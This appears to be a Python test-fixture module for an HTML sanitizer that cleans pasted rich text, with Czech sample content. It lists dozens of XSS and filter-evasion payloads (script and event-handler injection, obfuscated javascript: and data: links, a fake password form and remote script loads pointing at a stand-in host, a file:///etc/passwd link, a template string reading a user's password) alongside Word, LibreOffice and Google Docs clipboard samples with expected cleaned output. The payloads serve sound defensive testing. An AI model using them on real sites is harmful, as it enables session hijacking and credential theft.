"""What people paste and what attackers send: payloads for the tests, after OWASP's filter evasion cheat sheet."""

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//zlo.example.cz/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script\x0b>alert(1)</script\x0b>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img/src=x/onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">klik</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<body onload=alert(1)>",
    '<form action="https://zlo.example.cz"><input name=heslo><button>Přihlásit</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    '<p onclick="alert(1)" style="position:fixed;inset:0">přes celou stránku</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://zlo.example.cz/x.css';</style>",
    '<link rel="stylesheet" href="https://zlo.example.cz/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://zlo.example.cz">',
    '<base href="https://zlo.example.cz/">',
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    '<a href="javascript:alert(1)" onmouseover="alert(1)">odkaz</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "{{ request.user.password }}{% load static %}",
    "<h2 id='pozor'><img src=x onerror=alert(1)>Nadpis</h2>",
]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "java\u200bscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://example.cz/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:https://example.cz/1",
    "view-source:javascript:alert(1)",
    '"onmouseover="alert(1)',
    "//zlo.example.cz/",
    "/\\zlo.example.cz/",
]

# What a clipboard holds after copying from each program, shortened; and what is to be left of it.
WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm;} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head>
<body lang=CS style='tab-interval:35.4pt'><!--StartFragment-->
<h2 style='mso-list:l0'><span style='font-family:"Calibri Light"'>Pec<o:p></o:p></span></h2>
<p class=MsoNormal><b><span style='mso-bidi-font-weight:bold'>Hlína</span></b><span
lang=CS>&nbsp; se pálí.<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraph><a href="https://example.cz/" target="_blank" style='color:blue'>Dílna</a></p>
<!--EndFragment--></body></html>"""
WORD_CLEAN = '<h2>Pec</h2>\n<p><b>Hlína</b> se pálí.</p>\n<p><a href="https://example.cz/">Dílna</a></p>'
LIBRE_OFFICE = """<meta http-equiv="content-type" content="text/html; charset=utf-8"/><title></title>
<meta name="generator" content="LibreOffice 7.6 (Linux)"/><style type="text/css">p { margin-bottom: 0.25cm }</style>
<h3 class="western" align="left">Sklo</h3><p align="justify" style="line-height: 115%"><font face="Liberation Serif"
size="3"><i>Tavené</i> v&nbsp;huti</font></p><p><br/></p>
<ul><li><p style="margin-bottom: 0cm">první</p></li><li><p>druhé</p></li></ul>"""
LIBRE_OFFICE_CLEAN = "<h3>Sklo</h3><p><i>Tavené</i> v\u00a0huti</p><ul><li><p>první</p></li><li><p>druhé</p></li></ul>"
GOOGLE_DOCS = """<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1f"><p dir="ltr"
style="line-height:1.38;"><span style="font-size:11pt;font-family:Arial;">Kámen a </span><span
style="font-weight:700;">dřevo</span></p><br><ol style="margin-top:0;"><li dir="ltr" aria-level="1"><p dir="ltr"
role="presentation"><span>jedna</span></p></li></ol></b>"""
GOOGLE_DOCS_CLEAN = "<p>Kámen a dřevo</p><ol><li><p>jedna</p></li></ol>"
